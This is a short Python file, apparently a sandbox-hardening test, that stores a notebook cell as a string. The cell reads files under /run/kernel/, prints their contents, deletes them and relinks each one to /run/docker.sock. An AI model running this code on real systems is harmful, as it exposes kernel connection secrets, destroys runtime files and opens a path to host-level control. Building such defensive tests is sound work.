"""The kernel's sockets become links to others, and its connection file lies."""

CELL = """
import glob, os
for path in glob.glob("/run/kernel/*") + [get_ipython().kernel.config.get("x", "none")]:
    print(path)
    try:
        print(open(path).read())
    except OSError:
        pass
    try:
        os.unlink(path)
        os.symlink("/run/docker.sock", path)
    except OSError as error:
        print(error)
"""
